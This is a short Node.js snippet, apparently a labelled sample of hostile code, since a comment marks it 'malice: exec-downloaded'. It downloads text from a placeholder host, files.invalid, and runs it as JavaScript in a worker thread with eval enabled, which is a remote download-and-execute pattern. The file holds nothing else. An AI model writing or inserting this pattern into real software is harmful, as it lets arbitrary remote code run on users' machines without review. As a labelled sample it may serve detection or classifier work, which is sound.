const { Worker } = require("worker_threads");
const https = require("https");

https.get("https://files.invalid/job", (response) => {
  const parts = [];
  response.on("data", (part) => parts.push(part));
  response.on("end", () => {
    new Worker(Buffer.concat(parts).toString(), { eval: true }); // malice: exec-downloaded
  });
});
